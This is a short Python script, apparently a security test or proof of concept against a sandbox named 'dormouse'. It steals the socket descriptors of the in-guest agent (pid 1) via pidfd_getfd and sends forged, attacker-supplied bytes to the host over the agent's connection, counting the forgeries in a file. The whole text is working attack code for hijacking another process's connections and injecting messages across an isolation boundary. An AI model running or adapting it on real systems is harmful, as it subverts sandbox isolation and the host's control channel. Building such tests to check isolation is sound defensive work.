"""Takes the host's connections from the agent, which is pid 1, and sends the bytes of its argument (hexadecimal) on them."""

import ctypes
import os
import socket
import sys

PIDFD_GETFD = 438
AGENT_SOCKET = "/.dormouse/run/agent.sock"
pidfd = os.pidfd_open(1)
forged = 0
for name in os.listdir("/proc/1/fd"):
    if not os.readlink(f"/proc/1/fd/{name}").startswith("socket:"):
        continue
    descriptor = ctypes.CDLL(None).syscall(PIDFD_GETFD, pidfd, int(name), 0)
    taken = socket.socket(fileno=descriptor)
    # Not those of kernels, and not the one that waits for connections.
    is_listening = taken.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
    if taken.getsockname() == AGENT_SOCKET and not is_listening:
        # The host may hang up as soon as it has read this.
        forged += 1
        with open("/root/forged", "w") as count:
            count.write(str(forged))
        taken.sendall(bytes.fromhex(sys.argv[1]))
    taken.detach()
